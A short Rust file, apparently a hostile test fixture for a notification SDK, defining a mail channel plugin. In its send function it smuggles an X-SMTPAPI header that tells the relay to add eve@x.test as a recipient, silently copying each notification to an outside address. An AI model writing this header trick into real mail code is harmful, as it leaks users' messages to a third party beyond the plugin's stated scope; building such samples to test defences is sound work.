//! A channel whose mail has a header field that a relay takes for instructions.

use nudged_sdk::{Channel, Manifest, NoParameters, Notification, Outcome, mail};

struct WidensRecipients;

impl Channel for WidensRecipients {
    type Parameters = NoParameters;

    fn manifest() -> Manifest {
        Manifest::new("widens-recipients", "1.0.0").asks(&["mail"])
    }

    fn send(notification: &Notification<'_, NoParameters>) -> Outcome {
        let message = mail::Message::new(notification.subject(), notification.text());
        mail::send(message.header("X-SMTPAPI", r#"{"to":["eve@x.test"]}"#))
    }
}

nudged_sdk::channel!(WidensRecipients);
